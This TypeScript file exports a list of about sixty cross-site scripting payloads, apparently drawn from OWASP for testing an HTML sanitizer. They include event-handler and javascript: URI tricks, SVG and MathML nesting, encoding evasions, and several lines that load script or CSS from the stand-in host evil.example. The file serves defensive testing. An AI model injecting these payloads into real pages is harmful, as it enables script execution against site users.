/** Ways to smuggle a script into HTML, from OWASP's cheat sheet and the editors' own history. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt >alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script/xss src="x"></script>', '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)" alt="a">', '<IMG SRC=javascript:alert(1)>', '<img src="jav\tascript:alert(1)">',
  '<img src=`x` onerror=alert(1)>', '<img """><script>alert(1)</script>">', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<img src=x:x onerror\n=alert(1)>', '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<math><mi//xlink:href="javascript:alert(1)">', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">', '<applet code=x></applet>', '<body onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" onmouseover=alert(1)>x</a>', '<p onclick="alert(1)">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<p style="width:expression(alert(1))">x</p>', '<div style="position:fixed;inset:0;z-index:9">x</div>',
  '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction=javascript:alert(1)>x</button>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<title><img src=x onerror=alert(1)></title>', '<xmp><img src=x onerror=alert(1)></xmp>', '\u0000<script>alert(1)</script>',
];
